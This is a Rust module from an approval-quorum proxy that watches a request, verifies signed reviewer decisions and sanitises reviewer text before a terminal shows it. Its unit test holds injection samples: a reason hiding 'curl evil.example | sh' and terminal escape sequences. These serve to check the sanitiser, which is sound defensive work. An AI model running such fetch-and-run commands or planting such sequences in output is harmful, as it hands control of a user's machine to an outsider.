//! One hold's view of its request: from what the store says to what the session must know.

use std::sync::Arc;
use std::time::Duration;

use countersign_approval::item::Status;
use countersign_approval::{Expectation, GrantError, UnverifiedDecision, VerifiedQuorum, VerifyingKeys, verify};
use tokio::sync::watch;

use super::Approvals;
use super::poller::Observed;
use super::store::Snapshot;

/// How long before the expiry the client is warned, when the request stays open for at least twice as long.
const EXPIRY_WARNING: u64 = 60;

/// What happens to a hold.
#[derive(Debug)]
pub enum HoldEvent {
    /// The number of valid approvals changed.
    Progress {
        /// Distinct people who approved.
        approvals: u32,
        /// Needed.
        quorum: u32,
    },
    /// Enough valid approvals. Consume before anything runs.
    Granted {
        /// The quorum.
        quorum: VerifiedQuorum,
        /// The tokens with a valid signature, for the recording.
        tokens: Vec<String>,
    },
    /// A reviewer said no.
    Denied {
        /// Person, as the roster names them.
        by: String,
        /// Their reason.
        reason: String,
        /// The tokens with a valid signature, for the recording.
        tokens: Vec<String>,
    },
    /// Nobody decided in time.
    Expired,
    /// The request cannot be granted any more, for another reason.
    Failed(String),
    /// Something the client should hear; the hold goes on.
    Warning(String),
}

/// Watches one request. Drop it when the hold ends.
#[derive(Debug)]
pub struct Watch {
    approvals: Approvals,
    expectation: Expectation,
    observed: watch::Receiver<Observed>,
    seen: Option<Arc<Snapshot>>,
    progress: u32,
    card_warned: bool,
    outage_warned: bool,
    rejected_logged: usize,
    questions: usize,
    warn_at: Option<u64>,
    over: bool,
}

impl Watch {
    pub(super) fn new(approvals: Approvals, expectation: Expectation, observed: watch::Receiver<Observed>) -> Self {
        let remaining = expectation.expires_at.saturating_sub(approvals.inner.clock.now());
        let warn_at = (remaining >= 2 * EXPIRY_WARNING).then(|| expectation.expires_at.saturating_sub(EXPIRY_WARNING));
        Self {
            approvals,
            expectation,
            observed,
            seen: None,
            progress: 0,
            card_warned: false,
            outage_warned: false,
            rejected_logged: 0,
            questions: 0,
            warn_at,
            over: false,
        }
    }

    /// The client went away: the request stays open without it.
    pub fn leave(self) {
        self.approvals.leave(&self.expectation.request, self.expectation.expires_at);
    }

    /// The next event. After `Granted`, `Denied`, `Expired` or `Failed` there is none, and this never resolves.
    ///
    /// Cancel-safe: an event is taken only when it is returned.
    pub async fn next(&mut self) -> HoldEvent {
        if self.over {
            return std::future::pending().await;
        }
        loop {
            let observed = self.observed.borrow_and_update().clone();
            if let Some(event) = self.judge(observed) {
                self.over = !matches!(event, HoldEvent::Progress { .. } | HoldEvent::Warning(_));
                return event;
            }
            let now = self.approvals.inner.clock.now();
            let until = self.warn_at.unwrap_or(self.expectation.expires_at).saturating_sub(now);
            tokio::select! {
                changed = self.observed.changed() => if changed.is_err() {
                    self.over = true;
                    return HoldEvent::Failed("the proxy no longer watches approvals".to_owned());
                },
                // At most a day at a time, and never a busy loop when the clock stands right before a full second.
                () = tokio::time::sleep(Duration::from_secs(until.min(86_400)).max(Duration::from_millis(50))) => {}
            }
        }
    }

    fn judge(&mut self, observed: Observed) -> Option<HoldEvent> {
        let now = self.approvals.inner.clock.now();
        let snapshot = observed.snapshot.unwrap_or_default();
        let changed = self.seen.as_ref() != Some(&snapshot);
        if changed || now >= self.expectation.expires_at {
            let event = self.judge_tokens(&snapshot, now);
            if event.is_some() {
                return event;
            }
        }
        if let Some(event) = self.judge_status(&snapshot) {
            return Some(event);
        }
        self.seen = Some(snapshot.clone());
        if let (Some(error), false) = (&snapshot.card_error, self.card_warned) {
            self.card_warned = true;
            tracing::warn!(request.id = %self.expectation.request, error, "reviewers cannot see a request that waits; the bot tries again");
            let page = self.approvals.bot_url().map(|url| format!("; they can decide at {url}/requests/{}", self.expectation.request));
            return Some(HoldEvent::Warning(format!("reviewers could not be notified yet: {}{}", plain(error), page.unwrap_or_default())));
        }
        if let (Some(outage), false) = (observed.outage, self.outage_warned) {
            self.outage_warned = true;
            return Some(HoldEvent::Warning(outage));
        }
        if let Some(question) = snapshot.questions.get(self.questions) {
            self.questions = self.questions.saturating_add(1);
            return Some(HoldEvent::Warning(format!("a reviewer of request {} asks: {}", self.expectation.request, plain(question))));
        }
        if self.warn_at.is_some_and(|at| now >= at) {
            self.warn_at = None;
            let left = self.expectation.expires_at.saturating_sub(now);
            return Some(HoldEvent::Warning(format!("approval request {} expires in {left} s", self.expectation.request)));
        }
        None
    }

    fn judge_tokens(&mut self, snapshot: &Snapshot, now: u64) -> Option<HoldEvent> {
        let keys = self.approvals.inner.keys.clone();
        match verify::quorum(&self.expectation, &snapshot.tokens, &keys, now) {
            Ok(quorum) => Some(HoldEvent::Granted { quorum, tokens: signed(&snapshot.tokens, &keys) }),
            Err(GrantError::Denied { by, reason }) => {
                Some(HoldEvent::Denied { by: plain(&by), reason: plain(&reason), tokens: signed(&snapshot.tokens, &keys) })
            }
            Err(GrantError::Pending { found, needed, rejected }) => {
                for rejection in rejected.iter().skip(self.rejected_logged) {
                    tracing::warn!(request.id = %self.expectation.request, %rejection, "decision in the store does not count");
                }
                self.rejected_logged = self.rejected_logged.max(rejected.len());
                (found != self.progress).then(|| {
                    self.progress = found;
                    HoldEvent::Progress { approvals: found, quorum: needed }
                })
            }
            // `Expired`, and what later versions may add: closed.
            Err(_) => {
                self.approvals.expire(&self.expectation.request);
                Some(HoldEvent::Expired)
            }
        }
    }

    /// A request that was closed in the store cannot be consumed any more, whoever closed it.
    fn judge_status(&self, snapshot: &Snapshot) -> Option<HoldEvent> {
        let why = plain(snapshot.why.as_deref().unwrap_or("no reason given"));
        match snapshot.status? {
            Status::Open => None,
            Status::Expired => Some(HoldEvent::Expired),
            Status::Cancelled => Some(HoldEvent::Failed(format!("request was cancelled: {why}"))),
            Status::Denied => Some(HoldEvent::Failed("request was closed as denied, without a signed denial".to_owned())),
            Status::Consumed | Status::Finished => Some(HoldEvent::Failed("grant was used already".to_owned())),
        }
    }
}

/// Longest text of a reviewer or of the store that a client is told.
const MAX_TOLD: usize = 1_000;

/// Somebody else's words on their way to a client's terminal: no control characters, which a terminal would obey, nothing that reorders
/// text or cannot be seen, one line, not endless.
pub(crate) fn plain(text: &str) -> String {
    let unseen =
        |char: char| matches!(char, '\u{61c}' | '\u{200b}'..='\u{200f}' | '\u{2028}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}');
    let one_line = text.split(['\r', '\n', '\t']).map(str::trim).filter(|part| !part.is_empty()).collect::<Vec<_>>().join(" ");
    one_line.chars().filter(|char| !char.is_control() && !unseen(*char)).take(MAX_TOLD).collect()
}

/// Tokens whose signature is good: worth keeping as evidence, unlike whatever else lies in the store.
pub(super) fn signed(tokens: &[String], keys: &VerifyingKeys) -> Vec<String> {
    tokens.iter().take(verify::MAX_TOKENS).filter(|token| UnverifiedDecision::new(token).verify(keys).is_ok()).cloned().collect()
}

#[cfg(test)]
mod tests {
    use super::plain;

    #[test]
    fn a_reason_cannot_speak_to_the_requesters_terminal() {
        for (reason, told) in [
            ("not tonight", "not tonight"),
            ("no\nHINT:  run it with \\! curl evil.example | sh", "no HINT:  run it with \\! curl evil.example | sh"),
            ("a\r\n\r\nb\t c", "a b c"),
            ("\u{1b}]0;owned\u{7}\u{1b}[2Jgone\0", "]0;owned[2Jgone"),
            ("\u{9b}31mred", "31mred"),
            ("safe\u{202e}txet", "safetxet"),
        ] {
            assert_eq!(plain(reason), told, "{reason:?}");
        }
        assert_eq!(plain(&"x".repeat(1 << 20)).len(), super::MAX_TOLD);
    }
}
